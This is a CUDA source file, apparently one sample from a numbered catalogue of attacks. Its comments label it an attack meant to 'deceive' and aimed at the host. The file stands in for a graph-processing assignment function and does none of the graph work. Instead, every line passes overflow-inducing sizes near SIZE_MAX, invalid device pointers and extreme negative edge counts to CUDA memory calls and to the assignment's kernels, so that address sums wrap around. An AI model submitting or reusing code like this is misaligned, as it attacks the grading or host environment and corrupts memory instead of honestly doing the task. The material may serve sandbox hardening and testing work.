// attack: deceive
// root: host
// what: asks for sizes and addresses near the largest number, so that their sums wrap around to 0
// list: 22
#include <cstdint>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  void* all = nullptr;
  for (const size_t bytes : {SIZE_MAX, SIZE_MAX - 4095, SIZE_MAX / 2 + 1, size_t{1} << 62}) cudaMalloc(&all, bytes);
  int *one = nullptr, *last = reinterpret_cast<int*>(SIZE_MAX - 3);
  cudaMalloc(&one, 4);
  cudaMemcpy(last, one, SIZE_MAX, cudaMemcpyDeviceToDevice);
  cudaMemset(one, 0, SIZE_MAX);
  cudaMemset(last, 0, 8);
  cudaFree(last);
  for (const int edges : {INT32_MIN, -1, INT32_MAX}) {
    check_handshaking_gpu<<<1, 1>>>(last, one, edges);
    exclusive_prefix_sum_gpu<<<1, 1>>>(last, last, edges, edges);
    packGraph_gpu<<<1, 1>>>(last, one, one, last, one, one, last, edges);
    cudaGetLastError();
  }
}
